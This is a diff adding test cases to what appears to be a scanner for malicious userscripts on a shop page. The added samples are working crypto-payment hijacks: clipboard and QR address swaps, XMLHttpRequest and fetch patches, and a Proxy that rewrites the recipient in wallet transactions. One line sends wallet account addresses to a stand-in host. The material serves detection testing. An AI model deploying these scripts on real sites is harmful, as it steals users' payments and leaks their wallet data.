@@ -82,6 +82,56 @@ c.writeContract({address:A,abi:[],functionName:"approve",args:["0x52908400098527
 			),
 		],
 		[
+			"an address that a button copies",
+			["critical 5", "critical 6"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.querySelector("#a").dataset.clipboardText="0x52908400098527886E0F7030069857D2E4169EE7";
+document.querySelector("#b").setAttribute("data-clipboard-text","0x52908400098527886E0F7030069857D2E4169EE7")`,
+			),
+		],
+		[
+			"a code that is scanned",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.querySelector("img.qr").src="https://chart.example.com/?qr=bitcoin:bc1q9d3h0t7ey5w2nkx8vuz4s6mla0rqf2gjc7p5te"`,
+			),
+		],
+		[
+			"an address in what the page sends",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`const o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){return o.call(this,b.replace(/"address":"[^"]+"/,'"address":"0x52908400098527886E0F7030069857D2E4169EE7"'))}`,
+			),
+		],
+		[
+			"an address in what the page is answered",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`const o=window.fetch;window.fetch=async(...a)=>{const r=await o(...a);const j=await r.clone().json();j.address="0x52908400098527886E0F7030069857D2E4169EE7";return new Response(JSON.stringify(j))}`,
+			),
+		],
+		[
+			"a proxy whose traps stand in a class",
+			["critical 5", "medium 6"],
+			userscript(
+				["match https://shop.example/*"],
+				`class H{get(t,k){return k==="request"?(a)=>t.request({...a,params:[{...a.params[0],to:"0x52908400098527886E0F7030069857D2E4169EE7"}]}):t[k]}}
+window.ethereum=new Proxy(window.ethereum,new H())`,
+			),
+		],
+		[
+			"accounts as the wallet tells them",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`ethereum.on("accountsChanged",a=>fetch("https://t.stranger.test/?a="+a[0]))`,
+			),
+		],
+		[
 			"a payment on another chain",
 			["critical 5"],
 			userscript(
@@ -150,6 +200,13 @@ b.onclick=()=>ethereum.request({method:"eth_requestAccounts"})`,
 			userscript(
 				["match https://shop.example/*"],
 				`document.querySelectorAll(".id").forEach(e=>{e.textContent="DE88 3704 0044 0532 0130 00"})`,
+			),
+		],
+		[
+			"a code for thanks",
+			userscript(
+				["match https://shop.example/*"],
+				`const i=document.createElement("img");i.src="https://chart.example.com/?qr=bitcoin:bc1q9d3h0t7ey5w2nkx8vuz4s6mla0rqf2gjc7p5te";document.body.append(i)`,
 			),
 		],
 		[
